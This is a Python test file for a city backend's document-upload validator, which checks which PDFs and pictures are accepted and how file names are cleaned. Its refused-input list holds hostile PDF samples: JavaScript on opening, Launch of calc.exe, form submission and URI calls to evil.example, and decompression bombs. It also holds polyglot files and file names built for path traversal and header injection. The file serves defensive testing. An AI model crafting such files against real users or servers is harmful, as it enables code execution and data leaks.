"""Which files may be kept as letters and signed documents, and under what name."""

from __future__ import annotations

import contextlib
import io
import time

import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from backend.cities.documents import check_letter, safe_name
from backend.common.errors import InvalidFields
from tests.letters import JAVASCRIPT, packed, packed_catalog, pdf, picture, real_pdf, zipped

AT_OPENING = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"


@pytest.mark.parametrize(
    ("content", "content_type", "name"),
    [
        (pdf(), "application/pdf", "letter.pdf"),
        (real_pdf(Dictionary(Type=Name.Annot)), "application/pdf", "letter.pdf"),
        (real_pdf(None, {"owner": "secret", "user": ""}), "application/pdf", "letter.pdf"),
        (b"\xef\xbb\xbf" + pdf(), "application/pdf", "letter.pdf"),
        (b"\r\n" + pdf(tail=b"\x1a"), "application/pdf", "letter.pdf"),
        (
            pdf(b"4 0 obj<</S/URI/URI(https://city.example)>>endobj"),
            "application/pdf",
            "letter.pdf",
        ),
        (packed_catalog(b""), "application/pdf", "letter.pdf"),
        (packed_catalog(b"/OpenAction[3 0 R/Fit]"), "application/pdf", "letter.pdf"),
        (
            packed_catalog(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
            "application/pdf",
            "letter.pdf",
        ),
        (picture("JPEG"), "image/jpeg", "letter.jpg"),
        (picture("PNG"), "image/png", "letter.png"),
        (picture("PNG", mode="1"), "image/png", "letter.png"),
    ],
)
def test_letter_is_what_its_content_says(content: bytes, content_type: str, name: str) -> None:
    kept = check_letter(content, "letter.exe", person=1)
    assert (kept.content_type, kept.name) == (content_type, name)


REFUSED: dict[str, bytes] = {
    "empty": b"",
    "program that says it is a PDF": b"MZ\x90\x00" + b"\x00" * 60,
    "web page": b"<!doctype html><script>alert(1)</script>",
    "vector picture with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "archive": zipped(),
    "something before the PDF": b"<html>" + pdf(),
    "PDF cut off": pdf()[:-20],
    "PDF with something behind it": pdf(tail=b"<p>hidden</p>"),
    "PDF that is an archive too": pdf(b"%") + zipped(),
    "PDF with an archive before its end": pdf().replace(b"%%EOF", b"") + zipped() + b"%%EOF",
    "PDF that is a web page too": pdf(b"4 0 obj(<SCRIPT>alert(1)</SCRIPT>)endobj"),
    "PDF with a script": pdf(JAVASCRIPT),
    "PDF with a script spelled in numbers": pdf(
        JAVASCRIPT.replace(b"JavaScript", b"J#61va#53cript")
    ),
    "PDF with a packed script": pdf(packed(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")),
    "PDF with a script in its object streams": real_pdf(
        Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    ),
    "PDF with a script deep in an array": real_pdf(
        Array([Array([Dictionary(A=Dictionary(S=Name.Launch, F="calc.exe"))])])
    ),
    "PDF that nobody opens without a password": real_pdf(None, {"owner": "a", "user": "b"}),
    "PDF that runs a script when it is opened": real_pdf(
        None, OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    ),
    "PDF with a packed script in disguise": pdf(
        packed(b"5 0 <</S/Launch/F(calc.exe)>>", head=b"/N 1/First 4/Filter[/FlateDecode]")
    ),
    "PDF whose packing nobody can check": pdf(
        packed(b"5 0 <<>>", head=b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")
    ),
    "PDF with packing that is cut off": pdf(packed(b"5 0 <<>>" * 90)[:-22] + b"\nendstream endobj"),
    "PDF with a script in a packed catalog": packed_catalog(AT_OPENING),
    "PDF with the word obj before its packed script": packed_catalog(AT_OPENING, head=b"/X(obj)"),
    "PDF with obj in a comment": packed_catalog(AT_OPENING, head=b"%obj\n"),
    "PDF whose streams begin after a carriage return": packed_catalog(AT_OPENING, line_end=b"\r"),
    "PDF whose damaged streams begin so": pdf(
        packed(b"5 0 <</S/JavaScript/JS(1)>>").replace(b"stream\n", b"stream\r", 1)
    ),
    "PDF that opens a page of the web": packed_catalog(
        b"/OpenAction<</S/URI/URI(https://evil.example)>>"
    ),
    "PDF that scrolls, then opens one": packed_catalog(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>"
    ),
    "PDF that prints itself": packed_catalog(b"/OpenAction<</S/Named/N/Print>>"),
    "PDF that acts when it is closed": packed_catalog(
        b"/AA<</WC<</S/URI/URI(https://e.example)>>>>"
    ),
    "PDF that leads to a thread of another file": pdf(
        b"4 0 obj<</S/Thread/F(\\\\\\\\evil.example\\\\a.pdf)/D 0>>endobj"
    ),
    "PDF with a form that is emptied": pdf(b"4 0 obj<</S/ResetForm>>endobj"),
    "PDF that starts a program": pdf(b"4 0 obj<</S/Launch/F(calc.exe)>>endobj"),
    "PDF with a file in it": pdf(
        b"4 0 obj<</Type/Filespec/EF<<>>>>endobj 5 0 obj<</EmbeddedFiles 4 0 R>>endobj"
    ),
    "PDF with a form that sends": pdf(b"4 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj"),
    "PDF with a password": pdf(b"4 0 obj<</Filter/Standard/V 4>>endobj\ntrailer<</Encrypt 4 0 R>>"),
    "picture that is cut off": picture()[:-400],
    "picture of text alone": b"\xff\xd8\xffhello",
    "picture with too many pixels": picture("PNG", size=(8000, 6000), mode="1"),
    "more than 10 MB": pdf(b"%" + b"x" * (10 * 1024 * 1024)),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_could_act_or_cannot_be_checked_is_refused(what: str) -> None:
    with pytest.raises(InvalidFields) as refused:
        check_letter(REFUSED[what], "letter.pdf", person=1)
    assert len(refused.value.errors["letter"][0]) > 20


def test_packed_bomb_is_refused_without_being_unpacked() -> None:
    with pytest.raises(InvalidFields):
        check_letter(pdf(packed(b"\x00" * 60_000_000)), "letter.pdf", person=1)


def test_bomb_in_true_object_streams_is_refused_without_being_unpacked() -> None:
    with pytest.raises(InvalidFields):
        check_letter(real_pdf(Array([String("x" * 1_000_000)] * 100)), "letter.pdf", person=1)


def test_words_of_a_pdf_repeated_without_end_cost_little() -> None:
    """Each of these was 20 seconds or more when a check looked back from each word."""
    check_letter(pdf(), "letter.pdf", person=1)  # the process is started
    for word in (b"stream\n", b"1 0 obj\n", b"1", b"1 ", b"<<", b"["):
        begun = time.monotonic()
        with contextlib.suppress(InvalidFields):
            check_letter(pdf(word * (560_000 // len(word))), "letter.pdf", person=1)
        assert time.monotonic() - begun < 3, word  # a tenth of a second on an idle machine


def test_picture_is_encoded_again_without_its_metadata() -> None:
    sent = picture(exif=True) + b"<script>alert(1)</script>" + zipped()
    kept = check_letter(sent, "photo.jpg", person=1).content
    assert all(
        word in sent and word not in kept
        for word in (b"mayor", b"a comment", b"<script>", b"PK\x05\x06")
    )
    with Image.open(io.BytesIO(kept)) as image:
        # Upright: the camera was turned
        assert (image.size, dict(image.getexif())) == ((30, 40), {})


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("letter.pdf", "letter.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\mayor\\Letter of 3 May.PDF", "Letter of 3 May.pdf"),
        ("letter\u202efdp.exe", "letterfdp.pdf"),
        ("a\x00b\r\nSet-Cookie: x.pdf", "abSet-Cookie_ x.pdf"),
        ("", "letter.pdf"),
        ("...", "letter.pdf"),
        ("手紙.pdf", "手紙.pdf"),
        ("x" * 500 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_name_loses_its_path_and_what_cannot_be_seen(sent: str, kept: str) -> None:
    assert safe_name(sent, ".pdf") == kept
